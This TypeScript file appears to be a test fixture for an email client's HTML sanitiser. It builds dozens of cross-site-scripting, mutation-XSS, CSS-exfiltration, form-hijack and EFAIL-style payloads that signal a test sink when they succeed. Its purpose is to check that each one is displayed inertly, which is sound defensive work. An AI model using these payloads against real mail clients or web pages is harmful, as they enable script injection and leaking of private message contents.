/** Formatted mail that means harm: what it would run, fetch or cover. Each must be shown, and do nothing. */

/** Makes the HTML of an attack that tells the sink when it succeeds. */
export type Attack = (leak: (path: string) => string) => string;

/** What a script would do if it ran. */
function script(leak: (path: string) => string, name: string): string {
  return `console.error('ran');fetch('${leak(`script-${name}`)}');alert(1)`;
}

export const ATTACKS: Record<string, Attack> = {
  scripts: (leak) => `
    <script>${script(leak, 'inline')}</script><script src="${leak('script')}"></script>
    <script type="module" src="${leak('module')}"></script><scr<script>ipt>${script(leak, 'split')}</scr</script>ipt>
    <noscript><p title="</noscript><img src=x onerror=${script(leak, 'noscript')}>"></noscript>
    <a href="javascript:${script(leak, 'href')}">press</a><a href=" java&#x0A;script:${script(leak, 'broken')}">press</a>
    <a href="data:text/html,<script>${script(leak, 'data')}</script>">press</a>
    <iframe src="javascript:${script(leak, 'frame')}"></iframe><iframe srcdoc="<script>${script(leak, 'srcdoc')}</script>"></iframe>
    <object data="${leak('object')}"></object><embed src="${leak('embed')}"><applet code="${leak('applet')}"></applet>
    <portal src="${leak('portal')}"></portal><frameset><frame src="${leak('frame')}"></frameset>`,
  handlers: (leak) => `
    <body onload="${script(leak, 'load')}" onpageshow="${script(leak, 'show')}">
    <img src=x onerror="${script(leak, 'error')}"><img src=x ONERROR=${script(leak, 'caps')}>
    <img/src="x"/onerror="${script(leak, 'slash')}"><div onmouseover="${script(leak, 'over')}" onfocus="1" tabindex=0 autofocus>a</div>
    <details open ontoggle="${script(leak, 'toggle')}"><summary>a</summary></details>
    <input autofocus onfocus="${script(leak, 'focus')}"><marquee onstart="${script(leak, 'start')}">a</marquee>
    <video onerror="${script(leak, 'video')}"><source src=x></video><style onload="${script(leak, 'style')}">a{}</style>
    <p style="animation:a 1s" onanimationstart="${script(leak, 'animation')}">a</p>`,
  svg: (leak) => `
    <svg onload="${script(leak, 'svg')}"><script>${script(leak, 'svg-script')}</script>
    <image href="${leak('svg-image')}"/><use href="${leak('svg-use')}#a"/><animate attributeName=href values="${leak('a')}"/>
    <foreignObject><iframe src="${leak('foreign')}"></iframe></foreignObject><a xlink:href="javascript:${script(leak, 'xlink')}"><text>a</text></a>
    <style>@import '${leak('svg-style')}';</style><feImage href="${leak('filter')}"/></svg>
    <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script(leak, 'svg-img')}'><image href='${leak('svg-in-img')}'/></svg>">`,
  mathml: (leak) => `
    <math><mi xlink:href="javascript:${script(leak, 'math')}">a</mi><maction actiontype="statusline#${leak('math')}">a</maction>
    <mtext><table><mglyph><style><img src=x onerror="${script(leak, 'glyph')}"></style></mglyph></table></mtext>
    <annotation-xml encoding="text/html"><script>${script(leak, 'annotation')}</script></annotation-xml></math>`,
  'mutation xss': (leak) => `
    <form><math><mtext></form><form><mglyph><style></math><img src onerror="${script(leak, 'm1')}"></style></mglyph></form>
    <svg></p><style><a id="</style><img src=1 onerror='${script(leak, 'm2')}'>"></style></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${script(leak, 'm3')}'&gt;"></style></math>
    <noembed><img title="</noembed><img src onerror='${script(leak, 'm4')}'>"></noembed>
    <xmp><p title="</xmp><img src onerror='${script(leak, 'm5')}'>"></p></xmp>
    <template><p title="</template><img src onerror='${script(leak, 'm6')}'>"></p></template>
    <textarea><p title="</textarea><img src onerror='${script(leak, 'm7')}'>"></p></textarea>
    <title><p title="</title><img src onerror='${script(leak, 'm8')}'>"></p></title>
    <style><![CDATA[</style><img src onerror="${script(leak, 'm9')}">]]></style><!--><img src onerror="${script(leak, 'm10')}">-->
    ${'<div>'.repeat(600)}<svg><style><a title="</style><img src onerror='${script(leak, 'm11')}'>">${'</div>'.repeat(600)}`,
  css: (leak) => `
    <link rel="stylesheet" href="${leak('link')}"><style>@import "${leak('import')}"; @import url(${leak('import-url')});
    @font-face { font-family: f; src: url(${leak('font')}) } @namespace url(${leak('namespace')});
    body { background: url("${leak('background')}"); cursor: url(${leak('cursor')}), auto; font-family: f }
    p[title^="s"] { background-image: url(${leak('attribute')}) } p::before { content: url(${leak('content')}) }
    li { list-style-image: url(${leak('list')}) } p { border-image: url(${leak('border')}); mask-image: url(${leak('mask')});
      filter: url(${leak('filter')}#a); clip-path: url(${leak('clip')}#a); shape-outside: url(${leak('shape')});
      background: image-set("${leak('set')}" 1x); --a: url(${leak('var')}); background: var(--a); offset-path: url(${leak('offset')}#a) }
    a:visited { background: url(${leak('visited')}) } p:hover { background: url(${leak('hover')}) }
    @media screen { p { background: url(${leak('media')}) } } @supports (color: red) { p { background: url(${leak('supports')}) } }
    @keyframes k { from { background: url(${leak('keyframes')}) } } p { animation: k 1s } p { background: \\75rl(${leak('escaped')}) }
    @property --b { syntax: "<url>"; inherits: false; initial-value: url(${leak('property')}) }
    </style><style></style><p title="secret" style="background:url(${leak('style')});background:u\\72l(${leak('style-escaped')})">styled</p>
    <p style="background-image:image-set('${leak('style-set')}' 1x)">a</p><ul><li>a</li></ul>
    <p style="position:fixed;inset:0;z-index:99999;background:#fff;width:100vw;height:100vh">cover</p>`,
  'meta, base and forms': (leak) => `
    <meta http-equiv="refresh" content="0;url=${leak('refresh')}"><meta http-equiv="Content-Security-Policy" content="img-src *">
    <meta http-equiv="set-cookie" content="a=b"><base href="${leak('base')}/" target="_top">
    <form action="${leak('form')}"><input name="a" value="b"><button formaction="${leak('button')}">press</button>
    <input type="image" src="${leak('input')}"><isindex action="${leak('isindex')}"></form>
    <a href="relative" ping="${leak('ping')}">press</a><a href="#x" download="x">press</a><img src="relative.png">`,
  preloads: (leak) =>
    [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'preload',
      'prerender',
      'modulepreload',
      'icon',
      'manifest',
      'import',
    ]
      .map((rel) => `<link rel="${rel}" as="image" href="${leak(rel)}">`)
      .join('') +
    `<script type="speculationrules">{"prerender":[{"urls":["${leak('speculation')}"]}]}</script>`,
  media: (leak) => `
    <img src="${leak('img')}" srcset="${leak('srcset')} 1x, ${leak('srcset2')} 2x"><img lowsrc="${leak('lowsrc')}" dynsrc="${leak('dynsrc')}">
    <picture><source srcset="${leak('picture')}"><img src="${leak('picture-img')}"></picture>
    <video poster="${leak('poster')}" src="${leak('video')}" autoplay muted><track src="${leak('track')}"></video>
    <audio src="${leak('audio')}" autoplay></audio><bgsound src="${leak('bgsound')}"><image src="${leak('image')}">
    <table background="${leak('table')}"><tr background="${leak('tr')}"><td background="${leak('td')}">cell</td></tr></table>
    <body background="${leak('body')}"><img src="//${leak('relative').slice(7)}"><img src="ftp://${leak('ftp').slice(7)}">
    <img src="HTTPS://${leak('https').slice(7)}"><img src="\t${leak('tab')}"><img src="https:${leak('no-slashes').slice(7)}">
    <input type="image" src="${leak('input-image')}"><hr style="background:url('//${leak('style').slice(7)}')">`,
};

/** A whole message with this HTML. It begins with a text to look for: some attacks swallow what follows them. */
export function htmlEntity(subject: string, html: string): string {
  return [
    ...head(subject),
    'Content-Type: text/html; charset=utf-8; hp="cipher"',
    '',
    `<html><body><p>${markOf(subject)}</p>${html}<p>The end.</p></body></html>`,
    '',
  ].join('\r\n');
}

/** A text that stands in every one of these messages. */
export function markOf(subject: string): string {
  return `This is the message about ${subject}.`;
}

/** A message whose parts try to enclose each other (EFAIL, direct exfiltration). */
export function enclosingEntity(subject: string, leak: (path: string) => string): string {
  const part = (type: string, text: string) => ['--b', `Content-Type: ${type}; charset=utf-8`, '', text];
  return [
    ...head(subject),
    'Content-Type: multipart/mixed; boundary=b; hp="cipher"',
    '',
    ...part('text/html', `<p>Begins here.</p><img src="${leak('enclosed')}?`),
    ...part('text/plain', 'The secret is 1234.'),
    ...part('text/html', `"><p>In between.</p><style>p { background: url("${leak('style')}?`),
    ...part('text/html', '<p>The second secret is 5678.</p>'),
    ...part('text/html', `") }</style><p>${markOf(subject)}</p>`),
    '--b--',
    '',
  ].join('\r\n');
}

function head(subject: string): string[] {
  return [
    'From: mallory@localhost',
    `Subject: ${subject}`,
    'Date: Fri, 20 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
  ];
}
